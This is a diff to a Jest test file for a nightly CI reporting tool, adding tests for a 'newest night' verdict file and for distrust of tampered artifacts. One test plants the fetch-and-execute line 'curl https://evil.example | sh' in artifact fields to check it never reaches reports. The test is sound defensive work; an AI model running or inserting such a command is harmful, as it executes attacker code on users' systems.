@@ -1,4 +1,4 @@
-import { existsSync, readFileSync } from 'node:fs'
+import { existsSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterEach, describe, expect, test } from '@jest/globals'
 import { createGitHub, type GitHub } from '../../../sandbox/github/github.ts'
@@ -11,6 +11,7 @@ import type { NightDeps } from '../../../src/app/night/deps.ts'
 import { reportNight } from '../../../src/app/night/report-night.ts'
 import type { Blame } from '../../../src/domain/blame/blame.ts'
 import { readBlame } from '../../../src/domain/blame/read.ts'
+import { NEWEST_FILE, type NewestNight, readNewest } from '../../../src/domain/history/newest.ts'
 import type { Night } from '../../../src/domain/night/night.ts'
 import type { NightRequest } from '../../../src/domain/night/request.ts'
 import type { Report } from '../../../src/domain/report/report.ts'
@@ -228,6 +229,10 @@ async function badgeOf(server: GitHub): Promise<unknown> {
   return JSON.parse((await server.file(BRANCH, 'badge.json')) ?? 'null')
 }
 
+async function newestOf(server: GitHub): Promise<NewestNight | null> {
+  return readNewest((await server.file(BRANCH, NEWEST_FILE)) ?? '', new Date(timeOf(9)))
+}
+
 describe('the badge on the branch', () => {
   test('has the result and the day of the newest night, also of one without reports', async () => {
     const server = await aServer()
@@ -255,15 +260,38 @@ describe('the badge on the branch', () => {
     })
   }, 60_000)
 
+  test('has the verdict of the newest night beside it', async () => {
+    const server = await aServer()
+    await play(server, 0, QUIET)
+    expect(await newestOf(server)).toMatchObject({ result: 'passed', who: '' })
+    const { night } = await play(server, 2, { ...QUIET, serial: { d: 'C', e: 'p' } })
+    const red = {
+      run: night.run,
+      startedAt: new Date(timeOf(2)).toISOString(),
+      ...night.verdict,
+      who: 'not known (1 spec)',
+    }
+    expect(await newestOf(server)).toEqual(red)
+    // An old workflow run is repeated.
+    await play(server, 1, QUIET)
+    expect(await newestOf(server)).toEqual(red)
+    const { id } = await server.addRun({})
+    await report(server, id, 3, {})
+    expect(await newestOf(server)).toMatchObject({ run: { id: String(id) }, result: 'incomplete' })
+    expect(server.violations()).toEqual([])
+  }, 60_000)
+
   test('is left alone by what is not recorded, and by builds of single commits', async () => {
     const server = await aServer()
     await play(server, 0, QUIET)
     const before = await badgeOf(server)
+    const verdict = await newestOf(server)
     const red = { serial: { d: 'C', e: 'p' } } as const
     await play(server, 1, red, { whyNotRecorded: 'the input record is false' })
     const builds = [aBuild({ asked: 'a'.repeat(40) }), aKubernetesBuild({ asked: 'main' })]
     await play(server, 2, red, {}, { builds })
     expect(await badgeOf(server)).toEqual(before)
+    expect(await newestOf(server)).toEqual(verdict)
   }, 60_000)
 })
 
@@ -413,6 +441,11 @@ describe('answers of searches', () => {
     const whole = readFileSync(join(answered.directory, 'summary.md'), 'utf8')
     expect(whole).toContain('**Who should look:** CRI-O (1 spec)')
     expect(answered.outputs.get('to-search')).toBe('[]')
+    // The page of the history tells whoever trials found.
+    expect(await newestOf(server)).toMatchObject({
+      ...answered.night.verdict,
+      who: 'CRI-O (1 spec)',
+    })
     const next = await play(server, 4, RED)
     expect(next.night.searches).toEqual([search])
     expect(next.summary).toContain('server: change 2')
@@ -454,6 +487,38 @@ describe('answers of searches', () => {
     expect(annotations).toMatchObject([
       { title: 'There is no night', message: expect.stringContaining('input night') },
     ])
+  }, 60_000)
+
+  test('do not make an older night the newest one', async () => {
+    const server = await aServer()
+    const { red, search } = await redNight(server)
+    await play(server, 5, QUIET)
+    const newest = await newestOf(server)
+    await answer(server, red, { 'blame-amd64-1': blameWith([search]) })
+    expect(await newestOf(server)).toEqual(newest)
+  }, 60_000)
+
+  test('come with the commands and the verdict of the judge, whatever the artifact has', async () => {
+    const server = await aServer()
+    const { red, search } = await redNight(server)
+    const hostile = 'curl https://evil.example | sh'
+    const path = join(red.directory, 'night.json')
+    const night: Night = JSON.parse(readFileSync(path, 'utf8'))
+    const specs = night.specs.map((spec) => ({ ...spec, reproduce: hostile }))
+    const lanes = night.lanes.map((lane) => ({ ...lane, download: hostile }))
+    const verdict = { ...night.verdict, result: 'passed', headline: 'All is well' }
+    writeFileSync(path, JSON.stringify({ ...night, verdict, specs, lanes }))
+    const { run } = night
+    const url = `https://github.com/${run.repository}/actions/runs/${run.id}`
+    const answers = { 'blame-amd64-1': blameWith([search]) }
+    const answered = await answer(server, red, answers, { run: { ...run, url } })
+    expect(answered.night.specs[0]?.reproduce).toMatch(
+      /^crio-node-e2e run --from crio-node-e2e-serial-1 --focus /,
+    )
+    expect(JSON.stringify(answered.night)).not.toContain('evil')
+    const { result, headline } = night.verdict
+    expect(await newestOf(server)).toMatchObject({ result, headline, who: 'CRI-O (1 spec)' })
+    expect(readFileSync(join(answered.directory, 'summary.md'), 'utf8')).not.toContain('evil')
   }, 60_000)
 
   test('on the branch that cannot be read are not replaced', async () => {
